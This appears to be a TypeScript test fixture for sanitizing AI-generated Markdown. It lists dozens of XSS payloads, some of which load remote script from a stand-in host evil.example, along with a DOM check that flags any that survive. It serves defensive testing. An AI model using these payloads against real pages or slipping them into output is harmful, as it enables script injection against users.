/**
 * Known XSS vectors (after the OWASP filter-evasion cheat sheet, DOMPurify's own test corpus and
 * html5sec.org) as a model might put them in a Markdown answer, and a DOM-level check that none
 * of them survived in HTML we wrote.
 */
import { JSDOM } from 'jsdom';

export const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script/src="data:text/javascript,alert(1)"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=javascript:alert(1)>',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert(1)`>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<IMG SRC="jav&#x0A;ascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="x 1x" onload=alert(1)>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="&#14;javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '[markdown link](javascript:alert(1))',
  '[markdown link](JaVaScRiPt:alert(1))',
  '[encoded](javascript&#58;alert(1))',
  '![markdown image](javascript:alert(1))',
  '![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[ref link][evil]\n\n[evil]: javascript:alert(1)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<div style="width: expression(alert(1))">ie</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<td onmouseover=alert(1)>cell</td>',
  '<p onclick="alert(1)">para</p>',
  '<a href="https://example.com" onmouseover="alert(1)">safe link, bad handler</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<img src=x onerror=alert(1)//',
  '<<script>alert(1);//<</script>',
  '<img """><script>alert(1)</script>">',
  '<a href="#" onclick="alert(1)"',
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xss id=x tabindex=1 onfocus=alert(1)></xss>',
  '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
  '<isindex action="javascript:alert(1)" type=image>',
];

const DANGEROUS_ELEMENTS = 'script, style, iframe, frame, frameset, object, embed, applet, form, input:not([type="checkbox"]), button, textarea, select, base, meta, link, svg, math, template, noscript, video, audio, source, details, marquee, isindex, xss, body';
const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'background', 'data', 'xlink:href', 'poster', 'srcdoc'];

/** What in `html` could run script, as readable findings; empty when it is clean. */
export function findScriptVectors(html: string): string[] {
  const document = new JSDOM(`<!doctype html><body>${html}</body>`).window.document;
  const findings: string[] = [];
  document.body.querySelectorAll(DANGEROUS_ELEMENTS).forEach((element) => findings.push(`<${element.nodeName.toLowerCase()}> element`));
  document.body.querySelectorAll('*').forEach((element) => {
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) findings.push(`${name} handler on <${element.nodeName.toLowerCase()}>`);
      if (name === 'style') findings.push(`style attribute on <${element.nodeName.toLowerCase()}>`);
      if (URL_ATTRIBUTES.includes(name) && /^\s*(?:javascript|vbscript|data):/i.test(attribute.value.replace(/[\u0000-\u001f\s]+/g, ''))) {
        findings.push(`${name}="${attribute.value}" on <${element.nodeName.toLowerCase()}>`);
      }
      if (name === 'srcdoc') findings.push(`srcdoc on <${element.nodeName.toLowerCase()}>`);
    }
  });
  return findings;
}

/** A model answer's body carrying every vector, each in its own paragraph and inline too. */
export function hostileMarkdown(intro: string): string {
  return [intro, ...XSS_VECTORS.map((vector, index) => `Vector ${index + 1}: ${vector}`)].join('\n\n');
}
